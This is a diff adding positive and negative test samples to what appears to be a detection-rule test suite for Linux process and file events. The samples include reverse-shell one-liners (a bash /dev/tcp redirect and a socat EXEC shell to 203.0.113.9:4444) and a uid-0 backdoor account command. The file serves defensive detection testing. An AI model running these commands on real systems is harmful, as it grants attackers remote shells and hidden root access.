@@ -99,6 +99,38 @@ SAMPLES = [
         {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -o -u 0 toor"},
         {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m li"},
     ),
+    # What looks like it and is an ordinary day's work.
+    (
+        "Reverse shell in one line",
+        {
+            "Image": "/usr/bin/bash",
+            "CommandLine": "bash -c 0<&196;exec 196<>/dev/tcp/1.1.1.1/44; sh <&196 >&196",
+        },
+        {"Image": "/usr/bin/bash", "CommandLine": "timeout 1 bash -c </dev/tcp/db.intranet/5432"},
+    ),
+    (
+        "Reverse shell in one line",
+        {"Image": "/usr/bin/socat1", "CommandLine": "socat TCP:203.0.113.9:4444 EXEC:sh,pty"},
+        {
+            "Image": "/usr/bin/bash",
+            "CommandLine": "bash -c exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET / '>&3",
+        },
+    ),
+    (
+        "Web server starts a shell",
+        {"Image": "/usr/bin/whoami", "CommandLine": "whoami", "ParentImage": "/usr/bin/node"},
+        {"Image": "/usr/bin/dash", "CommandLine": "sh -c next start", "ParentImage": "/usr/bin/node"},
+    ),
+    (
+        "Script file appears in a scratch folder or is hidden",
+        {"TargetFilename": "/dev/shm/c.jsp"},
+        {"TargetFilename": "/tmp/libnetty_transport_native_epoll_x86_64.so"},
+    ),
+    (
+        "Account with number 0 or a place in a privileged group",
+        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m -G adm,sudo li"},
+        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m -g users rootless"},
+    ),
 ]
 
 
